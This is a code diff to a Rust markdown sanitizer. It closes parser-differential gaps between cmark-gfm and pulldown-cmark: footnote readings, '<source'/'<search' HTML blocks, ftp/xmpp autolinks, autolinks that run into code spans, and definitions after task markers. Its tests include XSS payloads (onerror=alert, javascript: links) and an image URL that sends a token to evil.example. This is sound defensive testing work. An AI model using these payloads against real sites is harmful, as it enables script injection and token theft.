@@ -90,8 +90,30 @@ enum Kind {
 const MAX_TEXT_TAG: usize = 2048;
 
 /// One markdown pass: `None` when nothing needs to change.
+///
+/// The text is read twice, with footnotes and without: hosts differ on the extension
+/// (GitHub has it; cmark-gfm's default GFM rendering and markdown-it have not), and a
+/// `[^n]:` line is a footnote holding an HTML block for one and a paragraph with live
+/// links for the other. Each reading's edits are applied before the next one reads.
 pub(crate) fn sanitize(
     text: &str,
+    policy: &ContentPolicy,
+    findings: &mut Findings<'_>,
+) -> Option<String> {
+    let with_footnotes = sanitize_reading(text, options(), policy, findings);
+    let without = sanitize_reading(
+        with_footnotes.as_deref().unwrap_or(text),
+        options() - Options::ENABLE_FOOTNOTES,
+        policy,
+        findings,
+    );
+    without.or(with_footnotes)
+}
+
+/// One reading of [`sanitize`] with the given parser options.
+fn sanitize_reading(
+    text: &str,
+    options: Options,
     policy: &ContentPolicy,
     findings: &mut Findings<'_>,
 ) -> Option<String> {
@@ -99,7 +121,7 @@ pub(crate) fn sanitize(
     let mut stack: Vec<Frame> = Vec::new();
     let mut block: Option<HtmlBlock> = None;
     let mut used_labels: HashSet<String> = HashSet::new();
-    let mut parser = Parser::new_ext(text, options()).into_offset_iter();
+    let mut parser = Parser::new_ext(text, options).into_offset_iter();
     let events: Vec<(Event<'_>, Range<usize>)> = parser.by_ref().collect();
     let mut code_blocks = 0usize;
     let mut i = 0;
@@ -142,6 +164,15 @@ pub(crate) fn sanitize(
                 let (done_edits, plain) = finish(done, policy, findings);
                 deliver(&mut stack, &mut edits, done_edits, &plain);
             }
+            Event::TaskListMarker(_) => {
+                if let Some(edit) = definition_after_task_marker(text, range.end) {
+                    findings.push(
+                        Code::DangerousUrlScheme,
+                        "a task list item began with a link reference definition, which cmark-gfm reads as one; its bracket was escaped".to_owned(),
+                    );
+                    edits.push(edit);
+                }
+            }
             Event::Start(Tag::CodeBlock(_)) => code_blocks += 1,
             Event::End(TagEnd::CodeBlock) => code_blocks = code_blocks.saturating_sub(1),
             Event::Text(_) if code_blocks == 0 => {
@@ -163,6 +194,18 @@ pub(crate) fn sanitize(
                 deliver(&mut stack, &mut edits, run_edits, &plain);
                 i = j;
                 continue;
+            }
+            Event::Code(_) if code_blocks == 0 => {
+                if let Some(edit) = block_tag_in_code_span(text, range.clone()) {
+                    findings.push(
+                        Code::HtmlSanitized,
+                        "a code span had a line starting with <source or <search, which starts an HTML block for some readers; its < is now &lt;".to_owned(),
+                    );
+                    edits.push(edit);
+                }
+                if let (Event::Code(t), Some(top)) = (event, stack.last_mut()) {
+                    top.plain.push_str(t);
+                }
             }
             Event::Text(t) | Event::Code(t) | Event::FootnoteReference(t) => {
                 if let Some(top) = stack.last_mut() {
@@ -495,8 +538,10 @@ impl TextRun {
                 ));
             }
         }
+        self.ambiguous_lt(text, &lower, findings, &mut found);
         if bare_urls {
             self.bare_urls(text, &lower, policy, findings, &mut found);
+            self.crossing_autolinks(text, findings, &mut found);
         }
         // Where a source candidate and a decoded one overlap, the longer one wins.
         found.sort_by_key(|f| (f.0.start, std::cmp::Reverse(f.0.end)));
@@ -514,6 +559,138 @@ impl TextRun {
         }
         plain.push_str(&decoded[at.min(decoded.len())..]);
         (edits, plain)
+    }
+
+    /// cmark-gfm's autolinker takes a bare URL from the source up to the next whitespace
+    /// or `<`, whatever markup lies in between: in ``www.`<img src=x onerror=…>` `` it
+    /// takes the backtick that opens the code span, and the tag after it is live HTML;
+    /// in ``https://a.example/```![x](p?token=…)`` it takes an image's syntax, data
+    /// included, into the link. Where a candidate runs on past the end of this text run
+    /// (into a code span, a link, emphasis, an entity), its trigger is written as a
+    /// character reference (`www&#46;`, `https&#58;//`): the same text for every parser,
+    /// and no autolink for cmark-gfm.
+    fn crossing_autolinks(
+        &self,
+        text: &str,
+        findings: &mut Findings<'_>,
+        found: &mut Vec<(Range<usize>, Edit, String)>,
+    ) {
+        let source_start = self.pieces.first().map_or(0, |p| p.1.start);
+        let source_end = self.pieces.last().map_or(0, |p| p.1.end);
+        let raw = &text[source_start..source_end];
+        let lower = raw.to_ascii_lowercase();
+        // (end of the token, end of the candidate without GFM's trailing punctuation),
+        // shared by every trigger in one token.
+        let mut token = (0, 0);
+        let before = found.len();
+        let mut d = 0;
+        while let Some(k) = lower[d..].find(['h', 'w', 'f', 'x']) {
+            let start = d + k;
+            d = start + 1;
+            let rest = &lower[start..];
+            let trigger = if rest.starts_with("www.") {
+                let ok = raw[..start]
+                    .chars()
+                    .next_back()
+                    .is_none_or(|c| c.is_whitespace() || matches!(c, '*' | '_' | '~' | '('));
+                ok.then_some((3, "&#46;"))
+            } else {
+                let scheme = ["http://", "https://", "ftp://", "xmpp:"]
+                    .iter()
+                    .find(|p| rest.starts_with(**p))
+                    .map(|p| p.find(':').unwrap_or_default());
+                let ok = !raw[..start]
+                    .chars()
+                    .next_back()
+                    .is_some_and(|c| c.is_ascii_alphabetic());
+                scheme.filter(|_| ok).map(|colon| (colon, "&#58;"))
+            };
+            let Some((offset, reference)) = trigger else {
+                continue;
+            };
+            let at = source_start + start;
+            if at >= token.0 {
+                let end = at
+                    + text[at..]
+                        .find(|c: char| c.is_whitespace() || c == '<')
+                        .unwrap_or(text.len() - at);
+                token = (end, at + trim_autolink(&text[at..end]).len());
+            }
+            // Emphasis closers and punctuation at the end stay out of the link (`**URL**`).
+            if token.1 <= source_end {
+                continue;
+            }
+            let edit = Edit {
+                range: at + offset..at + offset + 1,
+                with: reference.to_owned(),
+            };
+            let decoded = self.decoded_at(at + offset);
+            let plain = text[at + offset..=at + offset].to_owned();
+            found.push((decoded..decoded + 1, edit, plain));
+        }
+        if found.len() > before {
+            findings.push(
+                Code::HtmlSanitized,
+                "a bare URL ran on into other markdown, which cmark-gfm's autolinker would take into the link; the URL was written so that it is not autolinked".to_owned(),
+            );
+        }
+    }
+
+    /// `<` in text that another reading would take as markup becomes `&lt;` (text for
+    /// every parser):
+    /// - an escaped `\\<`: cmark-gfm's autolinker takes a bare URL up to the next `<`
+    ///   from the source, so in `www.\\<img …>` the backslash goes into the link and the
+    ///   tag is live;
+    /// - a literal `<` opening `source` or `search` (as a tag name): `CommonMark` 0.29
+    ///   (cmark-gfm) starts an HTML block at a line's `<source`, 0.31 (`pulldown-cmark`)
+    ///   at `<search`, and an HTML block's lines are raw HTML, unchecked as markdown.
+    fn ambiguous_lt(
+        &self,
+        text: &str,
+        lower: &str,
+        findings: &mut Findings<'_>,
+        found: &mut Vec<(Range<usize>, Edit, String)>,
+    ) {
+        let before = found.len();
+        let source_start = self.pieces.first().map_or(0, |p| p.1.start);
+        let source_end = self.pieces.last().map_or(0, |p| p.1.end);
+        let raw = &text[source_start..source_end];
+        for (i, _) in raw.match_indices("\\<") {
+            let backslashes = raw[..=i].bytes().rev().take_while(|&b| b == b'\\').count();
+            if backslashes % 2 == 1 {
+                let at = source_start + i;
+                // The decoded `<` ends where the source after `\\<` starts.
+                let d = self.decoded_at(at + 2).saturating_sub(1);
+                let edit = Edit {
+                    range: at..at + 2,
+                    with: markup::LT.to_owned(),
+                };
+                found.push((d..d + 1, edit, "<".to_owned()));
+            }
+        }
+        for (d, _) in lower.match_indices('<') {
+            let name = lower[d + 1..].strip_prefix('/').unwrap_or(&lower[d + 1..]);
+            let tag = ["source", "search"]
+                .iter()
+                .find_map(|t| name.strip_prefix(t));
+            let ends_name = tag.is_some_and(|after| {
+                after.is_empty()
+                    || after.starts_with(|c: char| c.is_ascii_whitespace() || c == '>' || c == '/')
+            });
+            if let (true, Some(at)) = (ends_name, self.exact_source(d)) {
+                let edit = Edit {
+                    range: at..at + 1,
+                    with: markup::LT.to_owned(),
+                };
+                found.push((d..d + 1, edit, "<".to_owned()));
+            }
+        }
+        if found.len() > before {
+            findings.push(
+                Code::HtmlSanitized,
+                "a `<` that another markdown reading takes as markup (after an escape next to a bare URL, or opening source/search) is now written &lt;".to_owned(),
+            );
+        }
     }
 
     /// Bare `http://`, `https://` and `www.` URLs (GFM extended autolinks) that carry data
@@ -571,7 +748,8 @@ impl TextRun {
 /// Bare URL candidates of `text` (`lower` is its ASCII lowercase) as GFM extended
 /// autolinks find them, with their range in `text`. A `www.` link starts at the start of
 /// the text, after whitespace or after `*`, `_`, `~`, `(` (the GFM spec); an
-/// `http(s)://` link after anything but an ASCII letter, because that is what cmark-gfm,
+/// `http(s)://` link (and cmark-gfm's `ftp://` and `xmpp:` ones) after anything but an
+/// ASCII letter, because that is what cmark-gfm,
 /// the renderer GitHub runs, links (after `"`, `-`, `.`, `<`, `` ` ``, `]` too). The
 /// candidate runs up to whitespace or `<` with trailing punctuation and unbalanced `)`
 /// left out, as GFM does; the URL parser decides the rest.
@@ -579,13 +757,17 @@ fn bare_url_candidates(text: &str, lower: &str) -> Vec<(Range<usize>, url::Url)>
     let mut out = Vec::new();
     let mut skip = 0;
     let mut d = 0;
-    while let Some(k) = lower[d..].find(['h', 'w']) {
+    while let Some(k) = lower[d..].find(['h', 'w', 'f', 'x']) {
         let start = d + k;
         d = start + 1;
         let rest = &lower[start..];
         let www = rest.starts_with("www.");
         if start < skip
-            || !(www || rest.starts_with("http://") || rest.starts_with("https://"))
+            || !(www
+                || rest.starts_with("http://")
+                || rest.starts_with("https://")
+                || rest.starts_with("ftp://")
+                || rest.starts_with("xmpp:"))
             || text[..start].chars().next_back().is_some_and(|c| {
                 if www {
                     !c.is_whitespace() && !matches!(c, '*' | '_' | '~' | '(')
@@ -596,11 +778,16 @@ fn bare_url_candidates(text: &str, lower: &str) -> Vec<(Range<usize>, url::Url)>
         {
             continue;
         }
-        let end = start
+        let mut end = start
             + text[start..]
                 .find(|c: char| c.is_whitespace() || c == '<')
                 .unwrap_or(text.len() - start);
         skip = end;
+        // In source, a backslash right before the `<` escapes it (it becomes `&lt;`,
+        // [`TextRun::ambiguous_lt`]); it is not part of the URL shown.
+        if text[end..].starts_with('<') && text[..end].ends_with('\\') {
+            end -= 1;
+        }
         let candidate = trim_autolink(&text[start..end]);
         let parsed = if www {
             url::Url::parse(&format!("http://{candidate}"))
@@ -621,8 +808,22 @@ fn bare_url_edit(
     policy: &ContentPolicy,
     findings: &mut Findings<'_>,
 ) -> Option<(String, String)> {
-    let Target::Web(url) = markup::classify(url.as_str()) else {
-        return None;
+    let url = match markup::classify(url.as_str()) {
+        Target::Web(url) => url,
+        Target::Disallowed(scheme) => {
+            findings.push(
+                Code::DangerousUrlScheme,
+                format!(
+                    "a bare {scheme}: URL (cmark-gfm autolinks it) was made inert and is shown"
+                ),
+            );
+            let (source, plain) = markup::defanged_url(url);
+            return Some((
+                format!("{source} (link removed)"),
+                format!("{plain} (link removed)"),
+            ));
+        }
+        Target::Mailto | Target::Relative | Target::Invalid => return None,
     };
     let host = url.host_str().unwrap_or_default();
     let carriers = markup::data_carriers(&url);
@@ -819,6 +1020,61 @@ fn link(
         }
         Target::Mailto | Target::Relative | Target::Invalid => None,
     }
+}
+
+/// A code span (source `range`) that runs over lines, one of which starts (after
+/// indentation and `>`) with a `source` or `search` tag: an HTML block start for
+/// `CommonMark` 0.29 (cmark-gfm) or 0.31 that interrupts the paragraph, so the rest of the
+/// "code" is raw HTML for that reader. The edit rewrites the first such `<` as `&lt;`;
+/// the code span then shows `&lt;` there, which only such contrived text has.
+fn block_tag_in_code_span(text: &str, range: Range<usize>) -> Option<Edit> {
+    let source = &text[range.clone()];
+    let mut at = 0;
+    for line in source.split_inclusive('\n').skip(1) {
+        at += source[at..].find('\n')? + 1;
+        let lead = line.len() - line.trim_start_matches([' ', '\t', '>']).len();
+        let rest = line[lead..].to_ascii_lowercase();
+        let name = rest.strip_prefix("</").or_else(|| rest.strip_prefix('<'));
+        let block = name.is_some_and(|n| {
+            ["source", "search"].iter().any(|t| {
+                n.strip_prefix(t).is_some_and(|after| {
+                    after.is_empty()
+                        || after
+                            .starts_with(|c: char| c.is_ascii_whitespace() || c == '>' || c == '/')
+                })
+            })
+        });
+        if block {
+            let lt = range.start + at + lead;
+            return Some(Edit {
+                range: lt..lt + 1,
+                with: markup::LT.to_owned(),
+            });
+        }
+    }
+    None
+}
+
+/// cmark-gfm takes a task list item's marker (`- [ ] `) off and reads the rest of the item
+/// as blocks again, so `- [ ] [x]: javascript:alert(1)` defines `[x]` for the whole
+/// document there, while `pulldown-cmark` reads the rest as paragraph text. When the text
+/// after the marker at `at` starts like a definition (`[label]:`), its `[` gets a
+/// backslash: text for both.
+fn definition_after_task_marker(text: &str, at: usize) -> Option<Edit> {
+    let rest = &text[at..];
+    let open = at + (rest.len() - rest.trim_start_matches([' ', '\t']).len());
+    let label = text[open..].strip_prefix('[')?;
+    let mut escaped = false;
+    // A label holds at most 999 characters (`CommonMark` §4.7).
+    let close = label.char_indices().take(1000).find_map(|(i, c)| {
+        let end = c == ']' && !escaped;
+        escaped = c == '\\' && !escaped;
+        end.then_some(i)
+    })?;
+    label[close + 1..].starts_with(':').then(|| Edit {
+        range: open..open,
+        with: "\\".to_owned(),
+    })
 }
 
 /// A link label compared as `CommonMark` matches them: case-insensitive, whitespace runs
@@ -1749,6 +2005,77 @@ mod tests {
             );
             let (again, _, _) = run(&out);
             assert_eq!(again, out, "{text:?}");
+        }
+    }
+
+    /// Readings of real cmark-gfm (the `cmarkgfm` package, found by a hostile review with
+    /// it and markdown-it as oracles) that `comrak`, the second reading, does not share:
+    /// each input's sanitized form keeps the expected inert text and loses the live part,
+    /// and sanitizing it again changes nothing.
+    #[test]
+    fn cmark_gfm_corners_comrak_does_not_share_are_made_inert() {
+        let cases: &[(&str, &str, &str)] = &[
+            // The `www.` autolinker takes the backslash of `\<`: the tag after it is live.
+            (
+                "www.\\<img src=x onerror=alert(1)>",
+                "www.&lt;img",
+                "\\<img",
+            ),
+            ("see www.\\<!-- hidden -->", "&lt;!--", "\\<!--"),
+            // `<source` starts an HTML block in CommonMark 0.29 (cmark-gfm), not in 0.31.
+            (
+                "<source =>\n`<img src=x onerror=alert(1)>`",
+                "&lt;source",
+                "\n<source",
+            ),
+            ("1. a `x\n   <source>` b", "   &lt;source>", "   <source>"),
+            // The item after a task marker is read again as blocks: a definition.
+            (
+                "- [ ] [x]: javascript:alert(1)\n\n[click][x]",
+                "\\[x]:",
+                "] [x]:",
+            ),
+            // Without the footnote extension, `[^n]:` is a paragraph with a live link.
+            (
+                "[^n]: <div>[x](javascript:alert(1))",
+                "<div>x",
+                "javascript",
+            ),
+            // `ftp://` and `xmpp:` autolinks.
+            ("ftp://evil.example/x", "ftp\\[:\\]//", "ftp://"),
+            ("1.\txmpp:a@evil.example", "xmpp\\[:\\]", "xmpp:a"),
+            // The autolinker takes a code span's backtick, and the tag in it is live.
+            ("www.`<img src=x onerror=alert(1)>`", "www&#46;`", "www.`"),
+            (
+                "https://a.example/```![x](evil.example/?token=c2VjcmV0LXRva2VuLXZhbHVl)",
+                "https&#58;//",
+                "https://a",
+            ),
+        ];
+        for (text, includes, excludes) in cases {
+            let (out, codes, _) = run(text);
+            assert!(!codes.is_empty(), "{text:?}");
+            assert!(
+                out.contains(includes),
+                "{text:?} -> {out:?} lacks {includes:?}"
+            );
+            assert!(
+                !out.contains(excludes),
+                "{text:?} -> {out:?} still has {excludes:?}"
+            );
+            let (again, _, _) = run(&out);
+            assert_eq!(again, out, "{text:?}");
+        }
+        // Look-alikes: a bold URL and a URL before punctuation stay as they are.
+        for text in [
+            "**https://example.com/docs**",
+            "see www.example.com, then (https://example.com/a).",
+        ] {
+            let (out, codes, borrowed) = run(text);
+            assert!(
+                borrowed && codes.is_empty(),
+                "{text:?} -> {out:?} {codes:?}"
+            );
         }
     }
 }
